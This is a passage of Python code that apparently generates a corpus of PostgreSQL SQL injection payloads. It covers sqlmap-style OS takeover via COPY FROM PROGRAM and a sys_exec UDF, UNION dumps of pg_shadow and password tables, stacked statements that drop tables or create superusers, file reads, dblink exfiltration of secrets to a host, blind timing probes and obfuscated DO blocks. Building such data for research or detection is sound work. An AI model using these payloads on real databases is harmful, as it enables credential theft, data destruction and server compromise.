        ("--file-write (lo_from_bytea)", ";SELECT lo_from_bytea(%d,DECODE(%s,%s))" % (oid, sp(base64.b64encode(bytes(r.randrange(256) for _ in range(9))).decode()), sp("base64"))),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, sp("/tmp/libs%s.so" % rword(r, 5)))),
        ("--file-write (lo_unlink)", ";SELECT lo_unlink(%d)" % oid),
        ("--os-cmd (output table)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text)"),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY sqlmapoutput(data) FROM PROGRAM %s" % sp(cmd)),
        ("--os-cmd (read output)", ";SELECT string_agg(data,%s) FROM sqlmapoutput" % sp(chr(10))),
        ("--os-pwn (udf sys_exec)", ";CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int4 AS '/tmp/libs%s.so','sys_exec' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 5)),
        ("--os-cmd (sys_exec)", ";SELECT sys_exec(%s)" % sp(cmd))])


def sqlmap_union(r, vector):
    n, pos, filler, cols, kw, rng, where = union_request(r, 50, 2, 4, 0.4)
    m1, m2, m3 = chrs(delimiter(r)), chrs(delimiter(r)), chrs(delimiter(r))
    fname = {"NULL": "NULL"}.get(filler, "[RANDNUM]")
    if r.random() < 0.25:
        fname, rng = "[CHAR]", "[COLSTART] to [COLSTOP]" if r.random() < 0.5 else rng
        cols = [q(rstr(r, 1).lower())] * n if r.random() < 0.4 else cols
        rng = rng + (" columns (custom)" if rng.startswith("[") else " columns")
    else:
        rng = rng + " columns"
    x = r.randrange(5)
    if x == 0:
        return "Generic UNION query (%s) - %s (ORDER BY)" % (fname, rng), "generic", "ORDER BY %d" % r.randint(1, 50), 1
    if x == 1 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 12)), m2)
        return "Generic UNION query (%s) - %s" % (fname, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_roles", ["rolname", "rolsuper::text"]), ("pg_namespace", ["nspname"]),
                    ("pg_database", ["datname"]), ("pg_stat_activity", ["usename", "query"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", "", " OFFSET %d LIMIT 1" % r.randint(0, 40)])
    return "Generic UNION query (%s) - %s (--dump %s)" % (fname, rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- %s" % rstr(r)] * 4 + ["--", "--", "-- -", "--\t", "-- %s" % rstr(r).lower(), "/*", "--+"])
def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    return corpus_kit.sqlmap_slot_value(globals(), r, si, orig, place, where, payload, need_comment)


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES FOR CONCAT DECODE ENCODE""".split())


def tamper(r, name, s, typ):
    """Chains of tamper scripts that suit PostgreSQL: randomcase, space2randomblank, multiplespaces,
    equaltolike, substring2leftright, unionalltounion, space2comment and between -- applied outside the
    payload's literals and comments."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "randomcase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]{2,}", lambda m: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in m.group(0))
                                              if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "space2randomblank":
        return outside(lambda t, i, n: re.sub(r" ", lambda m: r.choice(["\t", "\n", "\r", "\f"]), t))
    if name == "multiplespaces":
        return outside(lambda t, i, n: re.sub(r"(?<=\S) (?=\S)", lambda m: " " * r.randint(1, 4), t))
    if name == "equaltolike":
        return outside(lambda t, i, n: re.sub(r"(?<![<>!:=])=(?![=>])", " LIKE ", t))
    if name == "substring2leftright":
        return outside(lambda t, i, n: re.sub(r"(?i)SUBSTRING\((.+?) FROM (\d+) FOR 1\)", lambda m: "LEFT(RIGHT(%s,-%d),1)" % (m.group(1), int(m.group(2)) - 1)
                                              if m.group(2) != "1" else "LEFT(%s,1)" % m.group(1), t))
    if name == "unionalltounion":
        return outside(lambda t, i, n: re.sub(r"(?i)UNION ALL SELECT", "UNION SELECT", t))
    if name == "space2comment":
        return outside(lambda t, i, n: t.replace(" ", "/**/"))
    if name == "between":
        def btw(t, i, n):
            t = re.sub(r"(?i)\s*>\s*(\d+)", r" NOT BETWEEN 0 AND \1", t)
            return re.sub(r"(?<![<>!:=])=(\d+)", r" BETWEEN \1 AND \1", t)
        return outside(btw)
    raise KeyError(name)


TAMPERS = ["randomcase", "space2randomblank", "multiplespaces", "equaltolike", "substring2leftright", "unionalltounion,space2comment",
           "between,randomcase", "space2comment", "equaltolike,space2randomblank", "substring2leftright,between", "randomcase,multiplespaces"]

union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.47, takeover_share=0.2, tamper_share=0.1)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | union (a UNION tail) | stack (statements
# after ;) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | jkey (a JSON key closed and the
# select list extended).  Cores named stored_* are values saved through one
# form and replayed by a later statement; they go only into the templates
# that replay stored values.
def secs(r):
    return r.choice([2, 4, 5, 6, 8, 10, 15, 20])


DO_TAGS = ["$x20$", "$_$", "$do20$", "$Ω$", "$run$", "$$", "$é$", "$t_2$", "$BODY20$"]
OPEN_TAGS = ["$z20$", "$a$", "$ß$", "$s_s$", "$$", "$v20$", "$Tg$"]
# dollar tags an attacker tries when guessing how an application quotes its bodies
GUESSED_TAGS = ["$q20$", "$q$", "$$", "$body$", "$sql$", "$fn$", "$_$"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def hand_cores(r, fam):
    a, b = r.randint(2, 90), r.randint(91, 9999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(20000, 89999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    pc = plain(cmd)
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_num_eq", "OR %d=%d" % (a, a)), ("or_str_eq", "OR '%s'='%s'" % (w, w)), ("or_true", "OR true"), ("or_not_false", "OR NOT false"),
            ("or_in_self", "OR %d IN (%d, %d)" % (a, b, a)), ("or_gt", "OR %d > %d" % (b, a)), ("or_like_wild", "OR '%s' LIKE '%%'" % w),
            ("or_is_null", "OR NULL IS NULL"), ("or_coalesce", "OR coalesce(NULL, %d) = %d" % (a, a)), ("or_length", "OR length('%s') = %d" % (w, len(w))),
            ("or_upper_lower", "OR upper('%s') = '%s'" % (w, w.upper())), ("or_exists_one", "OR EXISTS (SELECT 1)"), ("or_any_array", "OR %d = ANY (ARRAY[%d, %d])" % (a, a, b)),
            ("or_not_between", "OR %d NOT BETWEEN %d AND %d" % (a, b, b + 1)), ("or_cast_text", "OR %d::text = '%d'" % (a, a)), ("or_bool_text", "OR 't'::boolean"),
            ("or_similar", "OR '%s' SIMILAR TO '%s%%'" % (w, w[0])), ("or_regex", "OR '%s' ~ '^%s'" % (w, w[:2])), ("or_abs", "OR abs(-%d) = %d" % (a, a)),
            ("or_current_user_notnull", "OR current_user IS NOT NULL"), ("stored_or_num_eq", "OR %d=%d" % (a, a))]] + [
            ("set_all_rows", "assign", "{col} = {col} WHERE true", PG), ("set_or_true", "assign", "{col} = DEFAULT WHERE %d=%d" % (a, a), PG)]
    if fam == "union":
        n = r.randint(1, 5)
        pos = r.randrange(n)
        arms = [("pg_database", "datname", " FROM pg_database"), ("pg_roles", "rolname||':'||rolsuper::text", " FROM pg_roles"),
                ("pg_shadow", "usename||':'||coalesce(passwd,'')", " FROM pg_shadow"), ("pg_tables", "schemaname||'.'||tablename", " FROM pg_tables"),
                ("info_columns", "table_name||'.'||column_name", " FROM information_schema.columns WHERE table_schema = 'public'"),
                ("loot", "%s||':'||%s" % (u, p), " FROM %s" % t), ("version", "version()", ""), ("current_user", "current_user||'@'||current_database()", ""),
                ("stat_activity", "usename||' '||coalesce(query,'')", " FROM pg_stat_activity"), ("foreign_servers", "srvname", " FROM pg_foreign_server")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(5)
        out = [("returning_secret", "returning", "RETURNING (SELECT %s FROM %s LIMIT 1)" % (p, t), PG),
               ("returning_version", "returning", "RETURNING version()", PG),
               ("stored_union_loot", "union", "UNION SELECT %s FROM %s" % (nulls(n, pos, "%s||':'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_all_" + name, "union", "UNION ALL SELECT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 1:
            return out + [("union_select_" + name, "union", "UNION SELECT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 2:
            return out + [("union_paren_" + name, "union", "UNION (SELECT %s%s)" % (nulls(n, pos, ex), frm), PG)]
        if style == 3:
            return out + [("union_string_agg_" + name, "union", "UNION ALL SELECT %s%s" % (nulls(n, pos, "string_agg(%s, ',')" % ex), frm), PG)]
        return out + [("union_lower_" + name, "union", "union all select %s%s" % (nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("drop_table", "DROP TABLE %s" % t), ("drop_table_cascade", "DROP TABLE IF EXISTS %s CASCADE" % t), ("truncate", "TRUNCATE TABLE %s" % t),
            ("delete_all", "DELETE FROM %s" % t), ("update_all_passwords", "UPDATE %s SET %s = '%s'" % (t, p, rword(r, 8))),
            ("insert_admin", "INSERT INTO %s (%s, %s) VALUES ('%s', '%s')" % (t, u, p, nm, rword(r, 10))),
            ("create_superuser", "CREATE USER %s WITH SUPERUSER PASSWORD '%s'" % (nm, rword(r, 9))), ("alter_role_superuser", "ALTER ROLE %s WITH SUPERUSER" % r.choice(["app_owner", "current_user", nm])),
            ("alter_user_password", "ALTER USER postgres PASSWORD '%s'" % rword(r, 10)), ("grant_all_public", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC"),
            ("grant_role", "GRANT %s TO %s" % (role, r.choice(["PUBLIC", nm]))), ("drop_schema", "DROP SCHEMA public CASCADE"),
            ("select_secret", "SELECT %s, %s FROM %s" % (u, p, t)), ("cancel_backends", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"),
            ("alter_system_ssl_off", "ALTER SYSTEM SET ssl = off"), ("create_trigger_fn", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS $f$BEGIN NEW.%s := '%s'; RETURN NEW; END$f$" % (nm, p, w)),
            ("rename_table", "ALTER TABLE %s RENAME TO %s_old" % (t, t)), ("set_role", "SET ROLE %s" % role),
            ("stored_drop_table", "DROP TABLE %s" % t), ("stored_grant_all", "GRANT ALL ON %s TO PUBLIC" % t)]] + [
            ("row_extra", "row", row_of("'%s'" % w), PG), ("row_secret_subselect", "row", lambda n: ", ".join(["(SELECT %s FROM %s LIMIT 1)" % (p, t)] + ["NULL"] * (n - 1)), PG),
            ("conflict_nothing_returning", "conflict", "ON CONFLICT DO NOTHING RETURNING (SELECT %s FROM %s LIMIT 1)" % (p, t), PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("read_file", "stack", "SELECT pg_read_file('%s')" % f), ("read_file_offset", "stack", "SELECT pg_read_file('%s', 0, %d)" % (f, r.choice([200, 4096]))),
            ("copy_from_file", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM '%s'" % (nm, nm, f)), ("copy_to_program", "stack", "COPY (SELECT '') TO PROGRAM '%s'" % pc),
            ("copy_from_program", "stack", "CREATE TABLE %s (o text); COPY %s FROM PROGRAM '%s'" % (nm, nm, pc)),
            ("copy_to_file", "stack", "COPY (SELECT %s FROM %s) TO '/tmp/%s.txt'" % (p, t, nm)), ("lo_import", "stack", "SELECT lo_import('%s')" % f),
            ("lo_import_export", "stack", "SELECT lo_import('%s', %d); SELECT lo_export(%d, '/tmp/%s')" % (f, oid, oid, nm)),
            ("dblink_connect_exfil", "stack", "SELECT dblink_connect('host=%s user=' || (SELECT %s FROM %s LIMIT 1) || ' dbname=x')" % (host, p, t)),
            ("dblink_send", "stack", "SELECT dblink_send_query('host=%s dbname=x', 'SELECT 1')" % ip), ("ls_dir", "stack", "SELECT pg_ls_dir('.')"),
            ("read_file_cond", "cond", "AND length(pg_read_file('%s')) > 0" % f), ("stat_file_cond", "cond", "AND (pg_stat_file('%s')).size > %d" % (f, a)),
            ("read_file_union", "union", "UNION SELECT %s" % nulls(r.randint(1, 4), 0, "pg_read_file('%s')" % f)),
            ("ls_dir_union", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "pg_ls_dir('%s')" % r.choice([".", "base", "pg_log", "/tmp"]))),
            ("read_file_repl", "repl", "(SELECT length(pg_read_file('%s')))" % f), ("read_file_concat", "concat", "pg_read_file('%s')" % f),
            ("assign_read_file", "assign", "{col} = pg_read_file('%s')" % f), ("row_read_file", "row", row_of("pg_read_file('%s')" % f)),
            ("stored_read_file", "stack", "SELECT pg_read_file('%s')" % f), ("stored_copy_program", "stack", "COPY (SELECT '') TO PROGRAM '%s'" % pc)]]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("and_sleep", "cond", "AND pg_sleep(%d) IS NOT NULL" % s), ("or_sleep", "cond", "OR pg_sleep(%d) IS NULL" % s), ("and_sleep_subq", "cond", "AND (SELECT 1 FROM pg_sleep(%d)) = 1" % s),
            ("and_sleep_case", "cond", "AND 1 = (CASE WHEN %d=%d THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (a, a, s)),
            ("and_probe_sleep", "cond", "AND (SELECT CASE WHEN %s THEN pg_sleep(%d) END) IS NULL" % (pe, s)),
            ("or_sleep_exists", "cond", "OR EXISTS (SELECT pg_sleep(%d))" % s), ("and_heavy_series", "cond", "AND (SELECT count(*) FROM generate_series(1, %d000000)) > 0" % s),
            ("stack_sleep", "stack", "SELECT pg_sleep(%d)" % s), ("stack_sleep_for", "stack", "SELECT pg_sleep_for('%d seconds')" % s),
            ("stack_case_sleep", "stack", "SELECT CASE WHEN %s THEN pg_sleep(%d) ELSE pg_sleep(0) END" % (pe, s)),
            ("union_sleep", "union", "UNION SELECT %s" % nulls(r.randint(1, 4), 0, "(SELECT 'x' FROM pg_sleep(%d))" % s)),
            ("order_sleep", "order", "(SELECT 1 FROM pg_sleep(%d))" % s), ("repl_sleep", "repl", "(SELECT %d FROM pg_sleep(%d))" % (a, s)),
            ("concat_sleep", "concat", "(SELECT 'x' FROM pg_sleep(%d))" % s), ("assign_sleep", "assign", "{col} = (SELECT {col} FROM pg_sleep(%d))" % s),
            ("interval_sleep", "iexpr", "(SELECT interval '0' FROM pg_sleep(%d))" % s), ("jkey_sleep", "jkey", "(SELECT 'x' FROM pg_sleep(%d))" % s),
            ("stored_and_sleep", "cond", "AND pg_sleep(%d) IS NOT NULL" % s)]] + [("row_sleep", "row", row_of("(SELECT NULL FROM pg_sleep(%d))" % s), PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("and_not_" + pn, "cond", "AND NOT " + pex, PG), ("loot_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [(n, "cond", c, PG) for n, c in [
                ("and_1_eq_1", "AND %d=%d" % (a, a)), ("and_1_eq_2", "AND %d=%d" % (a, a + 1)), ("and_exists_table", "AND EXISTS (SELECT 1 FROM %s)" % t),
                ("and_count_users", "AND (SELECT count(*) FROM pg_user) > %d" % (a % 9)), ("and_is_superuser", "AND (SELECT usesuper FROM pg_user WHERE usename = current_user)"),
                ("and_version_like", "AND version() LIKE 'PostgreSQL 1%%'"), ("and_current_user_eq", "AND current_user = '%s'" % role),
                ("and_db_length", "AND length(current_database()) = %d" % (a % 12 + 3))]] + [
            ("assign_probe", "assign", "{col} = (CASE WHEN %s THEN {col} ELSE {col} END)" % pe, PG), ("row_probe", "row", row_of("(CASE WHEN %s THEN 1 ELSE 0 END)" % pe), PG),
            ("order_probe", "order", "(CASE WHEN %s THEN 1 ELSE 1/0 END)" % pe, PG), ("jkey_probe", "jkey", "(CASE WHEN %s THEN 'a' ELSE 'b' END)" % pe, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
            ("int_cast_version", "AND 1=CAST(version() AS int)"), ("int_cast_secret", "AND 1=CAST(%s AS int)" % x), ("numeric_cast", "AND %s::numeric = 1" % x),
            ("int_colon_cast", "AND %s::int = 1" % x), ("bigint_cast", "AND CAST(%s AS bigint) = 1" % x), ("timestamp_cast", "AND %s::timestamp IS NULL" % x),
            ("uuid_cast", "AND %s::uuid IS NULL" % x), ("regclass_cast", "AND %s::regclass IS NULL" % x), ("regrole_cast", "AND %s::regrole IS NULL" % x),
            ("jsonb_cast", "AND ('{' || %s)::jsonb IS NULL" % x), ("interval_cast", "AND %s::interval IS NULL" % x), ("money_cast", "AND %s::money IS NULL" % x),
            ("bytea_hex_error", "AND decode(%s, 'hex') IS NULL" % x), ("div_zero_probe", "AND 1/(CASE WHEN %s THEN 1 ELSE 0 END) = 1" % pe),
            ("raise_via_to_date", "AND to_date(%s, 'YYYY-MM-DD') IS NULL" % x), ("stored_int_cast", "AND 1=CAST(%s AS int)" % x)]] + [
            ("repl_int_cast", "repl", "CAST(%s AS int)" % x, PG), ("concat_numeric", "concat", "%s::numeric::text" % x, PG), ("order_int_cast", "order", "CAST(%s AS int)" % x, PG),
            ("assign_int_cast", "assign", "{col} = CAST(%s AS int)" % x, PG), ("row_int_cast", "row", row_of("CAST(%s AS int)" % x), PG),
            ("interval_cast_secret", "iexpr", "(%s)::interval" % x, PG), ("jkey_int_cast", "jkey", "CAST(%s AS int)::text" % x, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        gt = r.choice(GUESSED_TAGS)
        n = r.randint(1, 4)
        return [
            ("or_dollar_eq", "cond", "OR %s = %s" % (D(w), D(w)), PG), ("or_dollar_like", "cond", "OR %s LIKE %s" % (D(w), D("%")), PG),
            ("and_dollar_user", "cond", "AND current_user = %s" % D(role), PG), ("or_dollar_length", "cond", "OR length(%s) = %d" % (D(w), len(w)), PG),
            ("dollar_insert", "stack", "INSERT INTO %s (%s, %s) VALUES (%s, %s)" % (t, u, p, D(nm), D(rword(r, 8))), PG),
            ("dollar_create_role", "stack", "CREATE ROLE %s LOGIN PASSWORD %s" % (nm, D(rword(r, 9))), PG),
            ("dollar_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM %s" % D(cmd), PG), ("dollar_read_file", "stack", "SELECT pg_read_file(%s)" % D(f), PG),
            ("dollar_do_block", "stack", "DO %s BEGIN EXECUTE 'DROP TABLE %s'; END %s" % (tg if tg != "$$" else "$d$", t, tg if tg != "$$" else "$d$"), PG),
            ("union_dollar", "union", "UNION SELECT %s" % nulls(n, r.randrange(n), "%s || %s" % (D("~"), e)), PG),
            ("dollar_concat", "concat", "%s || %s" % (D(":"), e), PG), ("dollar_repl", "repl", "(SELECT %s)" % D(str(a)), PG),
            ("dollar_assign", "assign", "{col} = %s" % D(w), PG), ("dollar_row", "row", row_of(D(w2)), PG)] + [
            ("tag_guess_" + (gt.strip("$").lower() or "empty"), "stack", "SELECT %s%s%s" % (gt, w, gt), PG)]
    if fam == "e_escape":
        hx = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        oc = lambda v: "".join("\\%03o" % ord(c) for c in v)
        return [
            ("e_hex_quote_or", "cond", "OR E'\\x27' = chr(39)", PG), ("e_hex_word_eq", "cond", "OR E'%s' = '%s'" % (hx(w), w), PG),
            ("e_user_hex", "cond", "AND current_user = E'%s'" % hx(role), PG), ("e_octal_like", "cond", "OR '%s' LIKE E'%s%%'" % (w, oc(w[:2])), PG),
            ("e_backslash_quote", "cond", "OR E'\\'' = ''''", PG), ("uamp_word_eq", "cond", "OR U&'\\%04x%s' = '%s'" % (ord(w[0]), w[1:], w), PG),
            ("e_hex_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % hx(pc), PG), ("e_hex_read_file", "stack", "SELECT pg_read_file(E'%s')" % hx(f), PG),
            ("e_octal_drop", "stack", "DROP TABLE %s; SELECT E'%s'" % (t, oc(w)), PG),
            ("e_union_hex", "union", "UNION SELECT %s" % nulls(r.randint(1, 4), 0, "E'\\x3a' || %s" % e), PG),
            ("e_concat_newline", "concat", "E'\\n' || %s" % x, PG), ("e_interval_hex", "iexpr", "E'\\x31 day'::interval", PG),
            ("e_assign_hex", "assign", "{col} = E'%s'" % hx(w), PG), ("e_row_hex", "row", row_of("E'%s'" % hx(w)), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        evil = r.choice(["DROP TABLE %s" % t, "ALTER ROLE %s SUPERUSER" % r.choice(["app_owner", nm]), "CREATE ROLE %s SUPERUSER LOGIN PASSWORD 'x'" % nm,
                         "GRANT ALL ON %s TO PUBLIC" % t, "COPY (SELECT 1) TO PROGRAM '%s'" % pc.replace("'", ""), "TRUNCATE %s" % t])
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute", "DO %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil))),
            ("do_execute_concat", "DO %s" % B("BEGIN EXECUTE '%s' || '%s'; END" % (sq(evil[:len(evil) // 2]), sq(evil[len(evil) // 2:])))),
            ("do_execute_chr", "DO %s" % B("BEGIN EXECUTE %s; END" % "||".join("chr(%d)" % ord(c) for c in evil[:24]) + "||'%s'" % sq(evil[24:]) if len(evil) > 24 else "BEGIN EXECUTE %s; END" % "||".join("chr(%d)" % ord(c) for c in evil))),
            ("do_execute_base64", "DO %s" % B("BEGIN EXECUTE convert_from(decode('%s', 'base64'), 'UTF8'); END" % base64.b64encode(evil.encode()).decode())),
            ("do_execute_reverse", "DO %s" % B("BEGIN EXECUTE reverse('%s'); END" % sq(evil[::-1]))),
            ("do_execute_format", "DO %s" % B("BEGIN EXECUTE format('DROP TABLE %%I', '%s'); END" % t)),
            ("do_loop_sleep", "DO %s" % B("BEGIN FOR i IN 1..%d LOOP PERFORM pg_sleep(1); END LOOP; END" % s)),
            ("do_declare_exec", "DO %s" % B("DECLARE c text := '%s'; BEGIN EXECUTE c; END" % sq(evil))),
            ("do_raise_secret", "DO %s" % B("BEGIN RAISE NOTICE '%%', (SELECT string_agg(%s, ',') FROM %s); END" % (p, t))),
            ("do_language_plpgsql", "DO LANGUAGE plpgsql %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil))),
            ("create_function_exec", "CREATE OR REPLACE FUNCTION %s() RETURNS void LANGUAGE plpgsql AS %s; SELECT %s()" % (nm, B("BEGIN EXECUTE '%s'; END" % sq(evil)), nm)),
            ("stored_do_execute", "DO %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("version", "version()"), ("current_user", "current_user"), ("current_database", "current_database()"), ("loot_first", "(SELECT %s FROM %s LIMIT 1)" % (p, t)),
            ("loot_where", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)), ("loot_agg", "(SELECT string_agg(%s || ':' || %s, ',') FROM %s)" % (u, p, t)),
            ("shadow_first", "(SELECT passwd FROM pg_shadow LIMIT 1)"), ("tables_agg", "(SELECT string_agg(tablename, ',') FROM pg_tables WHERE schemaname = 'public')"),
            ("db_agg", "(SELECT string_agg(datname, ',') FROM pg_database)"), ("setting_hba", "current_setting('hba_file')"),
            ("stored_loot_first", "(SELECT %s FROM %s LIMIT 1)" % (p, t)), ("probe_flag", "(CASE WHEN %s THEN '1' ELSE '0' END)" % pe)]] + [
            ("assign_loot", "assign", "{col} = (SELECT %s FROM %s LIMIT 1)" % (p, t), PG),
            ("row_loot", "row", row_of("(SELECT %s FROM %s LIMIT 1)" % (p, t), "NULL"), PG), ("jkey_loot", "jkey", "(SELECT %s FROM %s LIMIT 1)" % (p, t), PG)]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off, mostly as dev's hand-written rows do."""
    return r.choice(["--", "--", "--", "-- ", "-- ", "-- -", "--+", "/*", "-- x", ";--", "; --", "--%s" % rword(r, 3), "-- #", "--\r\n"])


def breakout(r, si, orig, mode, core):
    return corpus_kit.slot_breakout(globals(), r, si, orig, mode, core)


MODES = {"q": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "jkey"),
         "e": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict"),
         "d": ("stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "frame", "sub"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}
SLOT_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
              "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval",
              "frame": lambda si: si["frame"] and si["type"] == "n", "sub": lambda si: si["subscript"], "jkey": lambda si: si["jkey"]}


def fitting(si, cores):
    """The cores whose mode has a form for the slot; slot-aimed modes are kept only where they fit and
    weighted up; stored_* cores only (and more often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in SLOT_MODES:
            if SLOT_MODES[c[1]](si):
                out += [c] * 2
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 8
        else:
            out.append(c)
    return out


def hand(r, si, fam):
    return corpus_kit.slot_hand(globals(), r, si, fam)


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(5)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.upper() if j % 2 == 0 else c.lower() for j, c in enumerate(w))
            if style == 1:
                return w[:1].upper() + w[1:].lower()
            if style == 2:
                return "".join(c.upper() if c.lower() in "aeiou" else c.lower() for c in w)
            if style == 3:
                return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)
            return w[:1].lower() + w[1:-1].upper() + w[-1:].lower()
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "   ", " \t ", "\n\t", "\r", "\f", "\t\n\t", "    "]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\)", lambda m: r.choice([")\t", ")\n", ")"]) if r.random() < 0.3 else ")", t)
            return re.sub(r"((?<![<>!:=])=(?![=>])|\|\||::)", lambda m: r.choice(["\t", "\n", "\f"]) + m.group(1) + r.choice(["\r\n", "\t", ""]) if r.random() < 0.4 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/**/", "/*20*/", "/*x*/", "/* */", "/*\n*/", "/*--*/", "/*a/*b*/c*/", "/**_**/", "/*%s*/" % rword(r, r.randint(2, 5)), "/*;*/"]
        split_kw = r.random() < 0.1

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if split_kw:
                t = re.sub(r"\b(SELECT|UNION|FROM|WHEN|AND)\b", lambda m: m.group(0)[:1] + "/**/" + m.group(0)[1:], t, count=1)
            return re.sub(r",", lambda m: ",/**/" if r.random() < 0.3 else ",", t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
